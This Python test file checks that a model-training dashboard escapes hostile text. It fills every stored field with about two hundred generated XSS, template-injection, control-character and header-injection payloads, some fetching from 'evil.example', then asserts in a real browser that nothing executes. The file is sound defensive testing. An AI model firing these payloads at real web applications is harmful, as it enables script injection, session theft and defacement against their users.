"""Hostile transcripts on every page: two hundred ways to be more than words, and all stay words."""

from __future__ import annotations

import shutil
import threading
from itertools import product

import pytest
from dashboard_visitor import Markup, Visitor

from selftune.app.dashboard.serve import listen
from selftune.loop.project import create_project, open_project
from selftune.records import (
    Check,
    CheckStatus,
    Dataset,
    DatasetKind,
    Decision,
    Example,
    Feedback,
    Interaction,
    Message,
    Outcome,
    Reject,
    Release,
    Trigger,
)
from selftune.testing import fake_build

MARK = "owned7"
RUN = f"window.{MARK}=1"
TAGS = (
    "script",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "video",
    "body",
    "math",
    "style",
    "base",
    "form",
    "template",
    "details",
    "marquee",
    "input",
)
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "hx-on:click")
BREAKS = ('"', "'", "`", ">", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "\x00", "\u2028")
ADDRESSES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "data:text/html,",
    "vbscript:",
    "//evil.example/",
    "file:///",
)
TEMPLATES = (
    "{{{{7*7}}}}{run}",
    "${{7*7}}{run}",
    "{{% set x=1 %}}{run}",
    "<%= 7*7 %>{run}",
    "#{{7*7}}{run}",
    "[[{run}]]",
)
STEERING = ("\x1b[2J", "\u202e", "\u2066", "\ufeff", "\u200b", "\x9b31m", "\r\nSet-Cookie: a=b", "\x08\x08")
PAYLOADS = tuple(
    dict.fromkeys(
        [f"<{tag} {event}={RUN}>" for tag, event in product(TAGS, EVENTS)]
        + [f"{broken}><img src=x onerror={RUN}>" for broken in BREAKS]
        + [f"{broken} autofocus onfocus={RUN} x={broken}" for broken in BREAKS]
        + [f'<a href="{address}{RUN}">x</a>' for address in ADDRESSES]
        + [f"[x]({address}{RUN})" for address in ADDRESSES]
        + [made.format(run=RUN) for made in TEMPLATES]
        + [f"{steered}<b>{RUN}" for steered in STEERING]
        + [f"<{tag}>{RUN}</{tag}>" for tag in TAGS]
        + [f"<{tag}/{event}\n=\n{RUN}\n>" for tag, event in product(("svg", "img", "a"), EVENTS[:4])]
        + [f"&lt;{tag} {event}={RUN}&gt;" for tag, event in product(TAGS[:3], EVENTS[:3])]
        + [f'<div hx-get="//evil.example/{one}" data-hx-trigger="load" hx-on::load="{RUN}">' for one in range(8)]
    )
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A project in which every word that a model or a person can give is a payload."""
    folder = tmp_path_factory.mktemp("payloads") / "p"
    folder.mkdir()
    create_project(folder, name="p", base="reference", recipe="reference_sft", suite="state_obedience")
    with open_project(folder) as project:
        project.store.save(made(), event="made by a test")
    return folder


def made():
    said = [
        Interaction(
            salt=f"{place:032x}",
            conversation=f"c{place} {words}",
            task_id=words,
            trigger=Trigger.USER,
            source=f"log{words}",
            position=f"{place}{words}",
            messages=(Message(role="user", content=words), Message(role="assistant", content=words)),
            feedback=Feedback(thumbs=-1, correction=words),
            generated_by=words,
            flags=(words,),
        )
        for place, words in enumerate(PAYLOADS)
    ]
    worst = " ".join(PAYLOADS[::9])
    example = Example(
        salt="0" * 32, interaction_id=said[0].id, judgement_id=None, messages=said[0].messages, taught_by=worst
    )
    dataset = Dataset(
        kind=DatasetKind.SFT,
        train=(example,),
        holdout=(),
        card=worst,
        mixture=((worst, 1.0),),
        watermark=1,
        rejects=tuple(Reject(interaction_id=one.id, reason=words) for one, words in zip(said, PAYLOADS, strict=True)),
        config_digest="sha256:c",
    )
    checks = tuple(
        Check(name=words, status=CheckStatus.FAIL, measured=None, threshold=None, interval=None, n=None, detail=words)
        for words in PAYLOADS[::5]
    )
    decision = Decision(
        outcome=Outcome.REJECT,
        reason=worst,
        checks=checks,
        arms=(),
        policy=worst,
        policy_digest="sha256:p",
        build_id=None,
        run_id=None,
        next_step=worst,
    )
    build = fake_build()
    release = Release(
        version=f"v1.0{PAYLOADS[0]}",
        generation=0,
        alias=worst,
        build_id=build.id,
        build_digest=build.digest,
        model_file=worst,
        decision_id=decision.id,
        replaced=None,
        reason=worst,
        config_edit=(),
        approvals=(),
        health=(),
        proof=None,
    )
    return [*said, dataset, decision, build, release]


PATHS = (
    "/now",
    "/morning",
    "/models",
    "/decisions/{decision}",
    "/decisions/{decision}/items",
    "/data",
    "/experiments",
    "/data/datasets/{dataset}",
    "/settings",
    "/rules",
    "/models/card?name={build}",
)


def pages(visitor):
    """Every page that shows words of others: each page of the log, and every seventh interaction by itself."""
    with open_project(visitor.made.state.desk.folder) as project:
        known = {kind.KIND: project.store.last(kind).id for kind in (Decision, Dataset)}
        known["build"] = project.store.last(Release).build_id
        names = [one.id for _, one in project.store.each(Interaction)]
        places = [project.store.sequence_of(name) for name in names]
    yield from (path.format(**known) for path in PATHS)
    yield from (f"/data/interactions?before={place}" for place in places[49::50])
    yield "/data/interactions"
    yield from (f"/data/interactions/{name}" for name in names[::7])


def test_there_are_two_hundred_of_them():
    assert len(PAYLOADS) >= 200


def test_no_payload_is_more_than_words(folder):
    visitor, shown = Visitor(folder), set()
    for path in pages(visitor):
        answer = visitor.get(path)
        assert answer.status_code == 200, path
        markup = Markup(answer.text)
        assert markup.faults == [], path
        assert all(letter.isprintable() or letter in "\n\t" for letter in markup.words), path
        shown |= {place for place, words in enumerate(PAYLOADS) if RUN in words and _core(words) in markup.words}
    # Each was really there, as words: a page that shows nothing would be as harmless.
    assert len(shown) == len(PAYLOADS)


def _core(words):
    """What of a payload is shown as it is on one line: controls and breaks are replaced."""
    return max("".join(letter if letter.isprintable() else "\n" for letter in words).split("\n"), key=len).strip()[:60]


def test_no_payload_comes_through_an_address(folder):
    visitor = Visitor(folder)
    for words in PAYLOADS[::9]:
        for path, asked in (("/data/search", "words"), ("/morning", "night"), ("/experiments/try", "name")):
            answer = visitor.get(path, params={asked: words})
            assert Markup(answer.text).faults == [], (path, words)
            assert answer.headers["content-type"].startswith("text/html")
            assert "a=b" not in answer.headers.get("set-cookie", "")


@pytest.mark.needs("chromium")
def test_nothing_runs_in_a_real_browser(folder):
    """Chromium, with JavaScript on: no payload sets its mark, opens a dialogue, or asks another host for anything."""
    import uvicorn
    from playwright.sync_api import sync_playwright

    from selftune.app.dashboard.server import make_app

    listening = listen(0)
    port = listening.getsockname()[1]
    application = make_app(folder, port=port, hours=1)
    server = uvicorn.Server(uvicorn.Config(application, log_level="error", access_log=False))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    asked, refused, opened = [], [], []
    try:
        with sync_playwright() as play:
            browser = play.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
            page = browser.new_page()
            page.set_default_timeout(60_000)  # a machine may be busy
            page.on("request", lambda request: asked.append(request.url))
            page.on("dialog", lambda dialog: opened.append(dialog.message) or dialog.dismiss())
            page.on("console", lambda told: refused.append(told.text) if told.type == "error" else None)
            here = f"http://127.0.0.1:{port}"
            page.goto(f"{here}/enter?link={application.state.sessions.new_link()}")
            page.wait_for_url("**/now")
            for path in list(pages(Visitor(folder)))[:14]:
                page.goto(here + path)
                assert page.evaluate(f"window.{MARK}") is None, path
            browser.close()
    finally:
        server.should_exit = True
        thread.join(timeout=10)
    assert opened == []
    assert refused == []
    assert [url for url in asked if not url.startswith((here, "data:image/svg+xml"))] == []
